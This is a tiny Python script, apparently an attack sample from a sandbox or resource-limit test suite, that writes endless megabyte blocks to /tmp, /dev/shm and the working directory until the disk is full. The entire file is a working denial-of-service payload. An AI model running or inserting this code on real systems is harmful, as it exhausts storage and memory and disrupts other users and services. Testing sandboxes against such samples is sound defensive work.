"""Writes until the disk is full."""

for place in ("/tmp/x", "/dev/shm/x", "x"):
    try:
        with open(place, "wb") as file:
            while True:
                file.write(bytes(1_000_000))
    except OSError:
        pass


ATTACK = {'stock': False}
